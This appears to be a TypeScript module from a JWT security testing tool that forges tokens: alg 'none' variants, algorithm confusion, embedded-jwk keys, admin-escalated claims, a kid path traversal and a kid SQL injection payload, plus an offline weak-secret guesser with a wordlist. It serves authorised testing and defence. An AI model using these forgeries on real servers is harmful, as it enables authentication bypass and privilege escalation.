import { createHmac, generateKeyPairSync, type KeyObject, sign } from 'node:crypto';
import { type Jwt, segment } from './jwt.js';

/** A token that nobody has issued. */
export interface ForgedToken {
  /** The id of the attack in docs/security/requirements.md. */
  readonly id: string;
  /** What is wrong with it, for the report: never the token. */
  readonly what: string;
  readonly token: string;
}

/**
 * Forgeries of a token that is good: each says the same as it does (or a little more), and its signature proves nothing. The
 * first are one of each kind: some servers take no more after a few.
 *
 * @param publicKey the key that the server verifies with, as text in PEM, where it is known: for the confusion of algorithms.
 */
export function forgedTokens(jwt: Jwt, publicKey?: string): readonly ForgedToken[] {
  const { header, signed, signature } = jwt;
  const claims = segment({ ...jwt.claims });
  const unsigned = (alg: unknown): string => `${segment({ ...header, alg })}.${claims}.`;
  const own = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const embedded = { alg: 'RS256', typ: header['typ'], jwk: own.publicKey.export({ format: 'jwk' }) };
  const kid = (path: string, key: string): string => hs256({ ...header, alg: 'HS256', kid: path }, claims, key);
  const confused = [...new Set(publicKey === undefined ? [] : [publicKey, publicKey.trim()])].map((key): Forged => [
    'J02',
    'HS256 with the public key as its secret',
    hs256({ ...header, alg: 'HS256' }, claims, key),
  ]);
  const forged: readonly Forged[] = [
    ['J01', 'alg "none", no signature', unsigned('none')],
    ['J04', 'the claims changed, the old signature', `${signed.split('.')[0]}.${changedClaims(jwt)}.${signature}`],
    ['J05', 'signed with the key in its own header (jwk)', rs256(embedded, claims, own.privateKey)],
    ...confused,
    ['J10', 'HS256 with an empty key', hs256({ ...header, alg: 'HS256' }, claims, '')],
    // A file that is empty on every Unix: its content is the key.
    ['J08', 'kid that leads to an empty file', kid('../../../../../../dev/null', '')],
    ['J08', 'kid that answers a query with a key of its own', kid("x' UNION SELECT 'k", 'k')],
    ['J01', 'alg "nOnE", no signature', unsigned('nOnE')],
    ['J01', 'alg "none", the old signature', `${unsigned('none')}${signature}`],
    ['J04', 'the signature cut off', `${signed}.`],
    ['J04', 'a signature of zeros', `${signed}.${Buffer.alloc(64).toString('base64url')}`],
  ];
  return forged.map(([id, what, token]) => ({ id, what, token }));
}

type Forged = readonly [id: string, what: string, token: string];

/** Secrets of examples and tutorials: whoever has a token tries them without asking the server. */
const WEAK_SECRETS: readonly string[] = [
  ...[
    'secret',
    'secretKey',
    'secret_key',
    'secret-key',
    'mysecret',
    'my-secret',
    'my_secret',
    'supersecret',
    'super-secret',
  ],
  ...[
    'super_secret',
    'topsecret',
    'top-secret',
    'verysecret',
    'jwtsecret',
    'jwt-secret',
    'jwt_secret',
    'JWT_SECRET',
    'jwtSecret',
  ],
  ...[
    'changeme',
    'change-me',
    'change_me',
    'changeit',
    'password',
    'passw0rd',
    'Password1',
    'admin',
    'root',
    'test',
    'testing',
  ],
  ...[
    'test-secret',
    'test_secret',
    'dev',
    'dev-secret',
    'development',
    'default',
    'example',
    'key',
    'private',
    'privatekey',
  ],
  ...[
    'token',
    'shhhhh',
    'shhhh',
    'shh',
    'hello',
    'nest',
    'nestjs',
    'your-256-bit-secret',
    'your-secret-key',
    'your_secret_key',
  ],
  ...[
    'your-384-bit-secret',
    'your-512-bit-secret',
    'a-string-secret-at-least-256-bits-long',
    'thisisasecret',
    'this-is-a-secret',
  ],
  ...[
    'hard!to-guess_secret',
    'DO NOT USE THIS VALUE. INSTEAD, CREATE A COMPLEX SECRET AND KEEP IT SAFE OUTSIDE OF THE SOURCE CODE.',
  ],
  ...[
    '123456',
    '12345678',
    '123456789',
    '1234567890',
    'qwerty',
    'abc123',
    'letmein',
    '00000000',
    'null',
    'undefined',
    '',
  ],
];

const HASHES: ReadonlyMap<unknown, string> = new Map([
  ['HS256', 'sha256'],
  ['HS384', 'sha384'],
  ['HS512', 'sha512'],
]);

/** Finds the secret of a token by trying well-known ones (J09). Nothing is sent. @returns whether one fits. */
export function hasWeakSecret({ header, signed, signature }: Jwt): boolean | undefined {
  const hash = HASHES.get(header['alg']);
  if (hash === undefined) return undefined;
  return WEAK_SECRETS.some((secret) => createHmac(hash, secret).update(signed).digest('base64url') === signature);
}

/** The claims with one more role, in each field that servers look for them in. */
function changedClaims({ claims }: Jwt): string {
  return segment({ ...claims, sub: 'admin', role: 'admin', roles: ['admin'] });
}

function hs256(header: object, claims: string, key: string): string {
  const signed = `${segment(header)}.${claims}`;
  return `${signed}.${createHmac('sha256', key).update(signed).digest('base64url')}`;
}

function rs256(header: object, claims: string, key: KeyObject): string {
  const signed = `${segment(header)}.${claims}`;
  return `${signed}.${sign('sha256', Buffer.from(signed), key).toString('base64url')}`;
}
